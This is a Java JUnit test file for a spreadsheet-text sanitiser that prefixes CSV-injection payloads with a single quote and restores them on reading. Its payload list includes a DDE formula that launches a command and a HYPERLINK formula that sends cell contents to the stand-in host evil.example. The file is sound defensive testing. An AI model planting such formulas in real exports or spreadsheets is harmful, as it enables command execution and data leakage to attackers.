package nl.matchpunt.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** OWASP's CSV-injection payloads come out as inert text; plain numbers and ordinary text stay as they are. */
class SpreadsheetTextTests {

    static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1+1)",
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Klik hier\")",
            "\t=1+1",
            "\r=1+1");

    @Test
    void everyPayloadGetsASingleQuoteInFront() {
        for (String payload : PAYLOADS) {
            assertThat(SpreadsheetText.neutralise(payload)).isEqualTo("'" + payload);
        }
    }

    @Test
    void numbersAndOrdinaryTextStayAsTheyAre() {
        assertThat(SpreadsheetText.neutralise("-12")).isEqualTo("-12");
        assertThat(SpreadsheetText.neutralise("-3,5")).isEqualTo("-3,5");
        assertThat(SpreadsheetText.neutralise("Dak- en thuislozen")).isEqualTo("Dak- en thuislozen");
        assertThat(SpreadsheetText.neutralise("")).isEmpty();
        assertThat(SpreadsheetText.neutralise("a=b")).isEqualTo("a=b");
    }

    @Test
    void aCsvFieldIsNeutralisedAndQuotedCorrectly() {
        assertThat(SpreadsheetText.csvLine(List.of("=cmd|' /C calc'!A0", "=HYPERLINK(\"x\")", "@a;b", "plain")))
                .isEqualTo("\"'=cmd|' /C calc'!A0\";\"'=HYPERLINK(\"\"x\"\")\";\"'@a;b\";plain\r\n");
        assertThat(SpreadsheetText.csvLine(List.of("-2+3", "-2", "x"))).isEqualTo("\"'-2+3\";-2;x\r\n");
    }

    @Test
    void aFigureIsWrittenAsItIsAndTextBesideItIsNeutralised() {
        assertThat(SpreadsheetText.csvLine(List.of("-2+3", "-3,5", "12"), position -> position > 0))
                .isEqualTo("\"'-2+3\";-3,5;12\r\n");
    }

    @Test
    void readingBackDropsTheQuoteAgain() {
        for (String payload : PAYLOADS) {
            assertThat(SpreadsheetText.restore(SpreadsheetText.neutralise(payload)))
                    .isEqualTo(payload);
        }
        assertThat(SpreadsheetText.restore("'t Hoekje")).isEqualTo("'t Hoekje");
    }
}
